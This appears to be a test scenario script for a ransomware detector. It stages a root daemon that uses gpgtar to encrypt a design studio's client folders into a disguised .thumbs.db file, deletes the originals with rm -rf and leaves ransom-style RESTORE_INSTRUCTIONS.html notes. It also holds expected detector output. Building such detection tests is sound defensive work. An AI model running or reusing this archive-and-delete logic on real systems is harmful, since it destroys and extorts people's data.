# A compromised service: a root daemon without any login uid (started with setsid by an init script) packs a
# design studio's client folders with gpgtar --symmetric into one file and deletes them.
HOST=studio01.corp.example
SUMMARY="Attack (archive-and-delete by a daemon): a root daemon without a login uid, started with setsid, runs /usr/local/lib/.pm2/agent.sh: gpgtar --symmetric (gpg with a passphrase) of every client folder of the studio share into one file, rm -rf of the folders, RESTORE_INSTRUCTIONS.html at the share and client roots. Host rule set."
STUDIO=/srv/rt-lab/studio
targets() { find "$STUDIO/clients" -type f | sort; }

scenario_prepare() {
    /usr/bin/python3 "$RT_RECORD_DIR/make-extra.py" studio "$STUDIO" 5150 1103
    mkdir -p /usr/local/lib/.pm2
    rt_note_html > /usr/local/lib/.pm2/r.html
    cat > /usr/local/lib/.pm2/agent.sh <<'SH'
#!/bin/bash
export GNUPGHOME=/usr/local/lib/.pm2/g
mkdir -p -m 700 "$GNUPGHOME"
cd /srv/rt-lab/studio/clients || exit 1
gpgtar --symmetric --gpg-args "--batch --pinentry-mode loopback --passphrase st-$(date +%s)" -o ../.thumbs.db *
for c in */; do rm -rf "$c"; mkdir "$c"; cp /usr/local/lib/.pm2/r.html "$c/RESTORE_INSTRUCTIONS.html"; done
cp /usr/local/lib/.pm2/r.html ../RESTORE_INSTRUCTIONS.html
gpgconf --kill all
SH
    chmod 755 /usr/local/lib/.pm2/agent.sh
    targets > "$RT_OPT.targets"; N_FILES=$(wc -l < "$RT_OPT.targets")
    N_NOTES=$(( $(ls -d "$STUDIO"/clients/*/ | wc -l) + 1 ))
}
scenario_run() {
    rt_attack as_root_daemon "/usr/local/lib/.pm2/agent.sh"
}
scenario_verify() {
    rt_check originals-left "$(find "$STUDIO/clients" -type f ! -name RESTORE_INSTRUCTIONS.html | wc -l)" 0 &&
    rt_check archive "$(ls "$STUDIO/.thumbs.db" | wc -l)" 1 &&
    rt_check notes "$(find "$STUDIO" -name RESTORE_INSTRUCTIONS.html | wc -l)" "$N_NOTES"
}
scenario_truth() {
    cat <<Y
split: tuned      # recorded after the detector change (issue 16); the detector was then fixed against it (a root that execs its last command keeps its name)
expected:
  - rootExe: /usr/bin/bash
    rootCommandContains: "agent.sh"
    loginUser: null
    runAsUser: root
    filesAffected: $N_FILES
    overwrite: archived-then-deleted
    newExtension: null
    notes: { name: RESTORE_INSTRUCTIONS.html, directories: $N_NOTES }
    tools: [gpgtar, gpg]
    targetRoots: [$STUDIO/clients]
    launchedBy: "setsid by the harness (a root daemon without a login uid)"
Y
}
scenario_cleanup() { rm -rf /usr/local/lib/.pm2 "$RT_OPT.targets"; }
